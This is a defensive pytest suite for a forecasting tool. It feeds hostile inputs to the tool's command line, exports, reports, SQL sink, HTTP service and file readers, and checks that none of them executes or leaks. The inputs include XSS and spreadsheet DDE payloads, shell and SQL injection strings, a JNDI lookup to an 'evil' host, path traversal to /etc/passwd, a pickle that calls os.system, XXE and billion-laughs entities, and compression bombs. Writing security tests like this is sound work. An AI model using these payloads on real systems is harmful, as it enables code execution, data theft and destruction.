"""Hostile input: names, cells, paths, archives and files that are made to do harm. Nothing is executed, nothing leaves
the store, nothing is shown unescaped.

`WORDS` are put where a user's text goes: a column's name on its way to the terminal and the command to copy, the name
of a series in a table, in a spreadsheet, in a database, on a page, in Markdown, over HTTP. The others are files.
"""

import csv
import gzip
import io
import json
import os
import pickle
import re
import shlex
import sqlite3
import struct
import tarfile
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from artifacts.files import sql_sink
from artifacts.files.forecast_table import COLUMNS, FORMULA, Origin, forecast_table, to_csv, to_rows
from artifacts.files.parquet import NotAFile, TooLarge, read_table
from artifacts.lifecycle.registry import CHAMPION, CorruptRegistry, Registry
from artifacts.reports.report import Report, markdown, write_html
from artifacts.reports.report import Table as ReportTable
from artifacts.store.archive import BadArchive, members
from artifacts.store.manifest import origin
from artifacts.store.store import Store
from flows.command_line.command import run_from_command_line
from flows.doctor import doctor
from rnn import npz
from rnn.forecast import Forecast
from rnn.readers.options import Source
from rnn.readers.problems import BadSource
from rnn.readers.read import read_series_file

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</title><script>x",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>x</script>'>",
    "]]><b>",
    "<!--",
    "--><script>x</script>",
    "&lt;b&gt;&amp;",
    "<style>*{display:none}</style>",
    "<base href=//evil>",
    "' onmouseover='alert(1)",
    "{{7*7}}{% raw %}",
    "</script><script>x</script>",
    "<\u0131mg src=x>",
]
MARKED_DOWN = ["[x](javascript:alert(1))", "![x](http://evil/x.png)", "a | b | c", "`x` **b**", "http://evil www.evil"]
FORMULAS = [
    '=HYPERLINK("http://evil","x")', "=1+1", "+1+1|cmd", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", "=WEBSERVICE(\"x\")",
    "%0A=1+1", "=DDE(\"cmd\";\"/c calc\";\"x\")",
]  # fmt: skip
PATHS = ["../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "%2e%2e%2fetc",
         "~/.ssh/id_rsa", "CON", "a/../../b"]  # fmt: skip
SHELL = ["$(touch owned)", "`touch owned`", "; touch owned #", "| touch owned", "&& touch owned", "$HOME", "!!", "-rf",
         "--store", "'; touch owned; '", '"$(touch owned)"', "*", "${IFS}"]  # fmt: skip
SQL = ["'; drop table victim; --", '"; drop table victim; --', "x' or '1'='1", "victim; delete from victim", "%s %n %d",
       ":name ? $1", "${jndi:ldap://evil/x}"]  # fmt: skip
COMMANDING = [
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "a\x08\x08b",
    "\x9b31m",
    "name\x00end",
    "abc\u202edef",
    "\u2066x\u2069",
    "a\rb",
    "\u200fx",
    "\x7f",
]
LINES = ["a\nb: injected", "a\r\nSet-Cookie: x=1"]
ODD = ["v" * 5000, "\U0001f4a9", "a\u0301\u0302\u0303" * 50, "ﷺ", "\ufeffx", "None", "nul\u0441"]
WORDS = [*MARKUP, *MARKED_DOWN, *FORMULAS, *PATHS, *SHELL, *SQL, *COMMANDING, *LINES, *ODD]

RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
N = 60


def there() -> list[str]:
    """What the folder holds: nothing that was not put there."""
    return [path.name for path in Path().iterdir()]


def csv_of(*rows: tuple[str, ...]) -> bytes:
    sink = io.StringIO()
    csv.writer(sink).writerows(rows)
    return sink.getvalue().encode("utf-8", "surrogatepass")


def named(word: str) -> list[tuple[str, str]]:
    return [("t", word), *((str(k), str(k % 7)) for k in range(N))]


@pytest.mark.parametrize("word", WORDS)
def test_a_columns_name_commands_neither_terminal_nor_shell(word, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    Path("it.csv").write_bytes(csv_of(*named(word)))
    code = 0
    try:
        run_from_command_line(doctor, arguments=["it.csv", "--time-column", "t"])
    except SystemExit as end:
        code = end.code
    out, error = capsys.readouterr()
    assert not RAW.search(out + error)
    assert "Traceback" not in out + error
    assert there() == ["it.csv"]
    if code == 0:
        told = shlex.split(out[out.rindex("\nwavecast run ") :].strip())
        assert told[:3] == ["wavecast", "run", "it.csv"]
        name = word.strip().replace("\r\n", "\n")  # as a terminal has it
        assert name in told or f"--value-column={name}" in told
    else:
        assert (code, error.count("\n")) == (2, 1)


@pytest.mark.parametrize("word", WORDS)
def test_a_cell_commands_no_terminal(word, tmp_path, capsys):
    (tmp_path / "it.csv").write_bytes(csv_of(*named("v"), (word, word), ("61", word)))
    with pytest.raises(SystemExit) as end:
        run_from_command_line(doctor, arguments=[str(tmp_path / "it.csv"), "--time-column", "t", "--value-column", "v"])
    out, error = capsys.readouterr()
    assert end.value.code == 2
    assert not RAW.search(out + error)
    assert "Traceback" not in out + error


@pytest.mark.parametrize("word", WORDS)
def test_a_series_name_is_one_cell_that_a_spreadsheet_does_not_execute(word):
    forecast = Forecast("served", np.arange(3.0)[:, None], np.ones((3, 1)), None)
    table = forecast_table(forecast, Origin(word, -1.0, word, word))
    for row in list(csv.reader(io.StringIO(to_csv(table), newline="")))[1:]:
        assert len(row) == len(COLUMNS)
        assert not any(cell.startswith(FORMULA) for cell in (row[0], *row[-2:]))
        assert word in row[0]
    assert json.loads(json.dumps(to_rows(table)))[0]["unique_id"] == word


class Seen(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, Any]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def page_of(word: str, folder: Path) -> tuple[Seen, str]:
    (folder / "plots").mkdir(parents=True)
    told = Report(
        "pipeline", word, [word, f"About {word}."], [ReportTable(word, [{word: word}])], [], {"store": word, word: word}
    )
    (folder / "metrics.json").write_text("{}")
    write_html(folder, told, origin(folder, told.flow, {"seed": 0, word: word}, {word: word}))
    return Seen((folder / "report.html").read_text(encoding="utf-8")), str(markdown(folder / "plots", told, word))


@pytest.mark.parametrize("word", WORDS)
def test_a_name_is_text_on_a_page_and_in_markdown(word, tmp_path):
    plain, _ = page_of("sales", tmp_path / "plain")
    page, marked = page_of(word, tmp_path / "hostile")
    assert [tag for tag, _ in page.tags] == [tag for tag, _ in plain.tags]
    for _, attributes in page.tags:
        assert not any(name.startswith("on") for name in attributes)
        assert not any("javascript:" in str(attributes.get(name)) for name in ("href", "src", "action"))
    marked = re.sub(r"`[^`\n]*`$", "`code`", marked)  # where the run lies
    assert not re.search(r"<(?!/?(details|summary|br)\b)[a-z!/]", marked, re.IGNORECASE), marked
    assert not re.search(r"(?<!\\)\]\(", marked)
    assert "http://evil" not in marked


@pytest.mark.parametrize("word", WORDS)
def test_a_name_in_a_database_is_a_name(word, tmp_path):
    url, file = f"sqlite:///{tmp_path}/shop.db", tmp_path / "shop.db"
    with sqlite3.connect(file) as connection:
        connection.execute("create table victim (t, y)")
        connection.executemany("insert into victim values (?, ?)", [(k, k) for k in range(N)])
    rows = pa.table({"unique_id": [word], "wavecast": [1.0]})
    for name in (word, "forecasts"):
        try:
            sql_sink.write(url, sql_sink.layout_of(rows, name, ("unique_id",)), rows)
        except BadSource as error:
            assert "\n" not in str(error)
            assert not RAW.search(str(error))
    try:
        series, _, _ = read_series_file(Source(data=url, table=word))
        raise AssertionError(f"{len(series)} points of a table that nobody has made")
    except BadSource as error:
        assert "\n" not in str(error)
        assert not RAW.search(str(error))
    with sqlite3.connect(file) as connection:
        assert connection.execute("select count(*) from victim").fetchone() == (N,)
        (held,) = connection.execute("select unique_id from forecasts").fetchone() or (word,)
        assert held == word


@pytest.fixture(scope="module")
def asking(tmp_path_factory):
    """A client of a service whose store serves a forecast of a series; `asking(word)` names it so."""
    from fastapi.testclient import TestClient

    from artifacts.service.routes import application
    from tests.artifacts.service.conftest import put_latest, table_of

    folder = tmp_path_factory.mktemp("service")
    (folder / "secret.json").write_text("a secret")
    store = Store(str(folder / "runs"))

    def of(word: str) -> TestClient:
        put_latest(store, table_of(name=word))
        return TestClient(application(store), base_url="http://127.0.0.1:8420", raise_server_exceptions=False)

    return of


@pytest.mark.parametrize("word", WORDS)
def test_a_name_over_http_is_data(word, asking):
    client = asking(word)
    for answer in (
        client.get("/forecast"),
        client.get("/forecast", params={"format": "csv"}),
        client.get("/forecast", params={"series": word, "levels": word}),
        client.get("/champion", params={"x": word}),
        client.get("/metrics"),
        client.get("/health"),
    ):
        assert answer.status_code in {200, 400, 404, 414, 422, 503}, answer.text
        assert "set-cookie" not in answer.headers
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert not answer.headers["content-type"].startswith("text/html")
        assert "Traceback" not in answer.text
    metrics = client.get("/metrics").text
    assert all(re.match(r"#|[a-z_]+(\{.*\})? [-+0-9.eNaInf]+$", line) for line in metrics.split("\n") if line), metrics


@pytest.mark.parametrize(
    "path",
    [
        "/../secret.json", "/..%2fsecret.json", "/%2e%2e/secret.json", "/%2e%2e%2fsecret.json", "/..\\secret.json",
        "/..%5csecret.json", "/x/../../secret.json", "//etc/passwd", "/%2fetc%2fpasswd", "/file:///etc/passwd",
        "/secret.json%00.html", "/.lock", "/latest/../../secret.json", "/%252e%252e/secret.json", "/./../secret.json",
        "/latest/%2e%2e%2f%2e%2e%2fsecret.json", "/..;/secret.json", "/....//secret.json",
    ],
)  # fmt: skip
def test_no_path_leads_out_of_the_gallery(path, asking):
    answer = asking("sales").get(path)
    assert answer.status_code in {400, 404}
    assert "a secret" not in answer.text
    assert "root:" not in answer.text


OUTSIDE = [
    "../owned",
    "/owned",
    "runs/../../owned",
    "a/./../../owned",
    "..",
    ".hidden",
    "a//b",
    "./a",
    "a\x1b[31m",
    "a\nb",
    "a\u202eb",
    "//owned",
    "a/..",
    "~/../owned",
]


def archive_of(*entries: tuple[tarfile.TarInfo, bytes]) -> bytes:
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w") as tar:
        for member, content in entries:
            member.size = len(content)
            tar.addfile(member, io.BytesIO(content))
    return pa.compress(sink.getvalue(), "zstd", asbytes=True)


def unpacked(archive: bytes) -> list[str]:
    return [name for name, content in members(io.BytesIO(archive), len(archive)) if content.read() is not None]


@pytest.mark.parametrize("name", OUTSIDE)
def test_an_archive_puts_nothing_outside(name):
    with pytest.raises(BadArchive) as refusal:
        unpacked(archive_of((tarfile.TarInfo(name), b"x")))
    assert "\n" not in str(refusal.value)
    assert not RAW.search(str(refusal.value))


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE])
def test_an_archive_holds_plain_files_alone(kind):
    member = tarfile.TarInfo("it")
    member.type, member.linkname = kind, "/etc/passwd"
    with pytest.raises(BadArchive):
        unpacked(archive_of((member, b"")))


def test_an_archive_that_grows_beyond_measure_is_refused():
    with pytest.raises(BadArchive):
        unpacked(archive_of((tarfile.TarInfo("it"), bytes(2**27))))


class Harm:
    def __reduce__(self):
        return os.system, ("touch owned",)


def npy_of(descr: str, shape: str = "(1,)", body: bytes = b"\x00" * 8) -> bytes:
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode().ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + body


def npz_of(**files: bytes) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(f"{name}.npy", content)
    return sink.getvalue()


BAD_ARRAYS = {
    "pickled objects": npz_of(w=npy_of("'|O'", body=pickle.dumps(Harm()))),
    "objects in a record": npz_of(w=npy_of("[('a', '|O')]", body=pickle.dumps(Harm()))),
    "code for a header": npz_of(w=npy_of("__import__('os').system('touch owned')")),
    "a shape of code": npz_of(w=npy_of("'<f8'", "(__import__('os').system('touch owned'),)")),
    "a shape beyond memory": npz_of(w=npy_of("'<f8'", "(10**15,)")),
    "a shape beyond its bytes": npz_of(w=npy_of("'<f8'", "(100000000000,)")),
    "a negative shape": npz_of(w=npy_of("'<f8'", "(-1,)")),
    "a deep header": npz_of(w=npy_of("[" * 50 + "]" * 50)),
    "a bomb": npz_of(w=npy_of("'<f8'", "(33554432,)", bytes(2**28))),
    "a pickle alone": pickle.dumps(Harm()),
    "a name that leads out": npz_of(**{"../owned": npy_of("'|O'", body=pickle.dumps(Harm()))}),
}


@pytest.mark.parametrize("name", BAD_ARRAYS)
def test_arrays_of_a_file_execute_nothing(name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("it.npz").write_bytes(BAD_ARRAYS[name])
    with pytest.raises(npz.UnreadableError):
        npz.read("it.npz")
    assert there() == ["it.npz"]


def test_tables_that_would_fill_the_memory_and_pipes_are_refused(tmp_path):
    pq.write_table(pa.table({"x": np.zeros(2**25 + 8)}), tmp_path / "bomb.parquet", compression="zstd")
    with pytest.raises(TooLarge):
        read_table(tmp_path / "bomb.parquet")
    os.mkfifo(tmp_path / "pipe.parquet")
    with pytest.raises(NotAFile):
        read_table(tmp_path / "pipe.parquet")


def sheet_with(inner: str) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        book.writestr("xl/workbook.xml", inner)
    return sink.getvalue()


LAUGHS = "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 12))
ZIPPED = io.BytesIO()
with zipfile.ZipFile(ZIPPED, "w", zipfile.ZIP_DEFLATED) as _made:
    _made.writestr("../../owned.csv", "t,v\n1,x\n2,y\n3,z\n")

BAD_FILES = {
    "a bomb of zeros": ("it.csv.gz", gzip.compress(bytes(2**27))),
    "a bomb of one cell": ("it.csv.gz", gzip.compress(b"t,v\n1,2\n2," + b"9" * 2**26)),
    "a bomb of empty lines": ("it.csv.gz", gzip.compress(b"t,v\n" + b"\n" * 2**24)),
    "a bomb of columns": ("it.csv.gz", gzip.compress(b"," * 2**24)),
    "a member that leads out": ("it.zip", ZIPPED.getvalue()),
    "a billion laughs": ("it.xlsx", sheet_with(f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]><x>&l11;</x>')),
    "an entity of another file": (
        "it.xlsx",
        sheet_with('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ),
    "a page that includes": ("it.csv", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"),
    "a pickle": ("it.csv", pickle.dumps(Harm())),
    "a pickle that is called Parquet": ("it.parquet", pickle.dumps(Harm())),
    "a script": ("it.csv", b"#!/bin/sh\ntouch owned\n"),
}


@pytest.mark.parametrize("name", BAD_FILES)
def test_a_hostile_file_is_one_line(name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    file, content = BAD_FILES[name]
    Path(file).write_bytes(content)
    with pytest.raises(BadSource) as refusal:
        read_series_file(Source(data=file))
    assert "\n" not in str(refusal.value)
    assert len(str(refusal.value)) < 2000
    assert "root:" not in str(refusal.value)
    assert there() == [file]


QUERIES = [
    "delete from victim",
    "drop table victim",
    "select 1; drop table victim",
    "insert into victim values (1, 2)",
    "attach database '/tmp/owned' as x",
    "pragma writable_schema = 1",
    "vacuum into 'owned.db'",
    "select 1;;select 2",
    "update victim set y = 0",
    "with x as (select 1) delete from victim",
    "select load_extension('evil')",
    "/* select */ drop table victim",
    "select writefile('owned', 'x')",
    "create table owned (a)",
    "select t, y from victim /*",
    "replace into victim values (1, 1)",
    "select t, y from victim where (select randomblob(1000000000)) is null",
]


@pytest.mark.parametrize("query", QUERIES)
def test_a_query_changes_and_writes_nothing(query, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with sqlite3.connect("shop.db") as connection:
        connection.execute("create table victim (t, y)")
        connection.executemany("insert into victim values (?, ?)", [(k, k) for k in range(N)])
    before = Path("shop.db").read_bytes()
    with pytest.raises(BadSource) as refusal:
        read_series_file(Source(data="sqlite:///shop.db", query=query))
    assert "\n" not in str(refusal.value)
    assert (Path("shop.db").read_bytes(), there()) == (before, ["shop.db"])


URLS = [
    "postgresql://me:s3cret@127.0.0.1:1/x",
    "https://me:s3cret@127.0.0.1:1/x.csv",
    "http://127.0.0.1:1/x.csv?token=s3cret",
    "http://127.0.0.1:1/x.csv?X-Amz-Signature=s3cret&a=b",
    "ftp://me:s3cret@127.0.0.1:1/x.csv",
    "nosuch://me:s3cret@h/x",
    "http://me:s3cret@[::1/x.csv",
    "postgresql://me:s3c%72et@127.0.0.1:1/x?password=s3cret",
    "http://s3cret@127.0.0.1:1/x\r\nHost: evil",
]


@pytest.mark.parametrize("url", URLS)
def test_a_password_is_in_no_message(url, capsys):
    with pytest.raises(SystemExit) as end:
        run_from_command_line(doctor, arguments=[url, *(["--table", "x"] if url.startswith("postgres") else [])])
    out, error = capsys.readouterr()
    assert end.value.code == 2
    assert "s3cret" not in out + error
    assert (out, error.count("\n")) == ("", 1)


@pytest.mark.parametrize("run", ["../outside", "/etc", "..", ".", "a/b", "..\\x", ""])
def test_a_champion_is_a_run_of_the_store_and_nothing_else(run, tmp_path):
    store = Store(str(tmp_path / "runs"))
    promotion = {"run": run, "method": "autoregressive", "when": "2026-01-01T00:00:00+00:00", "how": "gate", "why": ""}
    store.replace(CHAMPION, json.dumps({"format": 1, "promotions": [promotion]}).encode())
    with pytest.raises(CorruptRegistry):
        Registry(store).champion()


def test_there_are_two_hundred_of_them():
    single = [OUTSIDE, BAD_ARRAYS, BAD_FILES, QUERIES, URLS]
    assert len(WORDS) + sum(map(len, single)) >= 130
    assert 6 * len(WORDS) + sum(map(len, single)) >= 500, "each word goes six ways"
